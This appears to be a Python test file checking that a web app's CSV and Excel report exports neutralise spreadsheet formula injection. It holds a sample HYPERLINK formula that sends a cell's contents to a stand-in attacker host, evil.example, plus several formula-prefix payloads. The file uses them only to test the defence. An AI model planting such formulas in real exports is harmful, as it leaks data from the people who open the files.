"""Exports that cannot run: a value that looks like a formula arrives as text."""

import io

from openpyxl import load_workbook
from sqlalchemy import select

from engine.models import User
from tests.helpers.report_history import at, start, step
from tests.web.conftest import login
from tests.web.test_reports import Q4, csv_rows, csv_tables
from web.extensions import db
from web.views.reports.export import Table, csv_bytes, xlsx_bytes

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def test_a_formula_in_start_data_arrives_as_text_in_both_exports(app, client):
    with app.app_context():
        prakom = db.session.scalar(select(User).where(User.username == "prakom"))
        clock = app.config["ALUR_CLOCK"]
        instance = start(db.session, clock, prakom, "penanganan_gangguan_server", "E",
                         at(24, 8), {"prioritas": EVIL})
        step(db.session, clock, instance, prakom, at(24, 8, 30))
        step(db.session, clock, instance, prakom, at(24, 9, 30), hasil_penanganan="tuntas")
    login(client, "kasubbag")
    url = f"/laporan/orang/prakom?{Q4}"
    workbook = load_workbook(io.BytesIO(client.get(f"{url}&format=xlsx").data))
    [cell] = [c for row in workbook["MTTR"].iter_rows(min_row=2) for c in row
              if c.value == EVIL]
    tables = csv_tables(client, url, workbook.sheetnames)
    assert tables["MTTR"] == [["Penanganan Gangguan Server", "'" + EVIL, "1", "90,0"]]
    assert cell.data_type == "s" and cell.quotePrefix


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers():
    table = Table("Uji", ["Teks", "Angka"])
    starts = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
    for text in starts:
        table.add([text, -2.5])
    table.add(["biasa", 3])
    rows = csv_rows(csv_bytes(table))
    assert rows == [["'" + text, "-2,5"] for text in starts] + [["biasa", "3"]]
    assert csv_rows(csv_bytes(table, ","), ",")[0] == ["'=1+1", "-2.5"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([table])))["Uji"]
    cells = list(sheet.iter_rows(min_row=2, values_only=False))
    assert [(row[0].value, row[0].data_type) for row in cells[:-1]] == [
        (text, "s") for text in starts]
    assert [row[1].value for row in cells] == [-2.5] * 6 + [3]
